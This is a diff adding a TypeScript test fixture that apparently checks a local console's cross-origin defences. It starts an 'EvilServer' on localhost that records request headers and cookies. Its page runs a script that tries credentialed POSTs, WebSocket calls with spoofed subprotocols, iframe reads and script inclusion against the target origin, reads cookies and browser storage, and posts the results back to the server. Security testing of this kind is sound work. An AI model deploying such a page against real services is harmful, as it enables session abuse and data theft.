@@ -1,0 +1,82 @@
+// A web server on another port of this host that keeps all that a browser brings, and whose page tries to get into the console.
+import { createServer, type IncomingHttpHeaders } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+export interface EvilServer {
+  readonly port: number;
+  /** Header lines of every request, and whatever its page found, as text. */
+  readonly got: () => string;
+  readonly cookies: () => readonly string[];
+  readonly close: () => Promise<void>;
+}
+
+/** Its page: `tryAll(console)` tries every way that a page of another origin has, and resolves with what came of each. */
+const PAGE = `<!doctype html><html><body><script>
+const said = (what) => Promise.resolve().then(what).then((text) => String(text), (error) => 'refused: ' + error.name);
+const post = (url, init) => said(async () => (await fetch(url, { method: 'POST', credentials: 'include', ...init })).text());
+const stream = (url, protocols) => new Promise((resolve) => {
+  const socket = new WebSocket(url, protocols);
+  socket.onopen = () => socket.send('{"jsonrpc":"2.0","id":1,"method":"holds.list"}');
+  socket.onmessage = (event) => resolve(event.data);
+  socket.onclose = (event) => resolve('closed ' + event.code);
+});
+const frame = (url) => new Promise((resolve) => {
+  const made = document.createElement('iframe');
+  made.onload = () => resolve(said(() => made.contentDocument === null ? 'no document' : made.contentDocument.body.innerText));
+  made.src = url;
+  document.body.append(made);
+});
+const script = (url) => new Promise((resolve) => {
+  const made = document.createElement('script');
+  made.onload = () => resolve('loaded');
+  made.onerror = () => resolve('refused');
+  made.src = url;
+  document.head.append(made);
+});
+const heard = [];
+addEventListener('message', (event) => heard.push(String(event.data)));
+async function tryAll(origin) {
+  const call = '{"jsonrpc":"2.0","id":1,"method":"messages.list","params":{}}';
+  const socket = origin.replace('http', 'ws') + '/stream';
+  const found = {
+    cookie: document.cookie,
+    opener: String(window.opener),
+    stored: JSON.stringify(localStorage) + JSON.stringify(await indexedDB.databases()),
+    rpc: await post(origin + '/rpc', { body: call }),
+    blind: await post(origin + '/rpc', { body: call, mode: 'no-cors' }),
+    challenge: await post(origin + '/challenge'),
+    enter: await post(origin + '/enter', { body: '{"code":"x"}' }),
+    stream: await stream(socket),
+    page: await stream(socket, ['sidelight.page', 'proof.x.1.2.3']),
+    frame: await frame(origin + '/'),
+    script: await script(origin + '/open'),
+    heard: heard.join(),
+  };
+  await fetch('/found', { method: 'POST', body: JSON.stringify(found) });
+  return found;
+}
+</script></body></html>`;
+
+export async function startEvilServer(): Promise<EvilServer> {
+  const got: string[] = [];
+  const cookies: string[] = [];
+  const server = createServer((request, response) => {
+    const headers: IncomingHttpHeaders = request.headers;
+    got.push(`${request.method} ${request.url} ${JSON.stringify(headers)}`);
+    if (headers.cookie !== undefined) cookies.push(...headers.cookie.split(/; */));
+    request.on('data', (part: Buffer) => got.push(part.toString('utf8')));
+    request.on('end', () => response.setHeader('Content-Type', 'text/html').end(PAGE));
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    port,
+    got: () => got.join('\n'),
+    cookies: () => cookies,
+    close: () =>
+      new Promise((resolve) => {
+        server.close(() => resolve());
+        server.closeAllConnections();
+      }),
+  };
+}
